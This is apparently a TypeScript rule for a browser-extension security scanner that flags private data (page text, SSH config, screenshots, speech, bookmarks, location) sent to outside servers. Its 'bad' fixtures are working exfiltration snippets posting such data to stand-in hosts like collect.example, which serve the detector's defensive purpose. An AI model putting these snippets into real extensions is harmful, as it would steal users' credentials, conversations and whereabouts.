import { flowsOf } from '../../extension/flowsOf.ts';
import { hitsOfFlows } from '../../taint/hits.ts';
import { sample } from '../../testing/sample.ts';
import { dataClassOf } from '../../verdict/dataClassOf.ts';
import { isTakenToMaker } from '../../verdict/isTakenToMaker.ts';
import { sendingWeight } from '../../verdict/sendingWeight.ts';
import { defineRule } from '../../rule.ts';

export default defineRule({
  id: 'private-data-to-network',
  title: 'Sends private data to a server',
  severity: 'high',
  confidence: 'high',
  category: 'flows',
  applies: 'extension',
  cwe: 'CWE-359',
  why: 'Page content, bookmarks, screenshots, speech or the location leave the browser. Mail, chats and bank pages look like any other page to such code.',
  remedy:
    'Send such data only when the user asks, only what is needed, to your own server, and say so in the privacy policy.',
  givesWayTo: ['one-time-codes-read'],
  check: (facts) =>
    hitsOfFlows(facts.whole(flowsOf).flows, (flow) =>
      dataClassOf(facts, flow.source) === 'private' && !isTakenToMaker(facts, flow)
        ? sendingWeight(facts, flow)
        : undefined,
    ),
  examples: {
    bad: [
      sample({
        background:
          'const x = new XMLHttpRequest(); x.open("GET", "file:///home/" + name + "/.ssh/config"); x.onload = () => { fetch("https://collect.example/f", { method: "POST", body: x.responseText }); }; x.send();',
      }),
      sample({
        content:
          '$.ajax({ url: "/account", success: function (page) { $.post("https://gather.example/", { page }); } });',
      }),
      sample({
        background:
          'chrome.tabs.captureVisibleTab(null, {}, (png) => { fetch("https://collect.example/s", { method: "POST", body: png }); });',
      }),
      sample({
        content:
          'const frame = document.createElement("iframe"); frame.src = "https://panel.example/side"; document.body.append(frame); window.addEventListener("message", () => { frame.contentWindow.postMessage({ mail: document.querySelector(".message").innerText }, "*"); });',
      }),
      sample({
        content:
          'setInterval(async () => { const last = [...document.querySelectorAll(".answer")].pop(); await fetch("https://collect.example/a", { method: "POST", body: last.innerText }); }, 5000);',
      }),
      sample({
        files: {
          'mic.html': '<script src="mic.js"></script>',
          'mic.js':
            'const R = window.SpeechRecognition || window.webkitSpeechRecognition; const r = new R(); r.onresult = (e) => { const said = [...e.results].map((x) => x[0].transcript).join(" "); navigator.sendBeacon("https://collect.example/h", said); }; r.start();',
        },
        background: 'chrome.tabs.create({ url: "mic.html", active: false });',
      }),
      sample({
        background:
          'import api from "webextension-polyfill"; const all = []; api.bookmarks.getTree().then((t) => all.push(t)); setInterval(() => { $.post("https://collect.example/b", { all: JSON.stringify(all) }); }, 60000);',
      }),
      sample({
        content:
          'navigator.geolocation.getCurrentPosition(({ coords }) => { fetch("https://collect.example/g", { method: "POST", body: JSON.stringify([coords.latitude, coords.longitude]) }); });',
      }),
    ],
    good: [
      sample({
        background:
          'const x = new XMLHttpRequest(); x.open("GET", "file:///home/" + name + "/list.txt"); x.onload = () => { show(x.responseText); }; x.send(); fetch("https://api.example/x", { method: "POST", body: y.responseText });',
      }),
      sample({
        content:
          '$.ajax({ url: "/account", success: function (page) { $.post("/seen", { page: page.length }); show(page); } });',
      }),
      sample({ content: 'const n = document.body.innerText.length; fetch("https://api.example/n?" + n);' }),
      sample({
        background:
          'chrome.tabs.captureVisibleTab(null, {}, (png) => { chrome.downloads.download({ url: png, filename: "a.png" }); });',
      }),
      sample({ content: 'document.querySelector("h1").textContent = "x"; fetch("https://api.example/x");' }),
    ],
  },
});
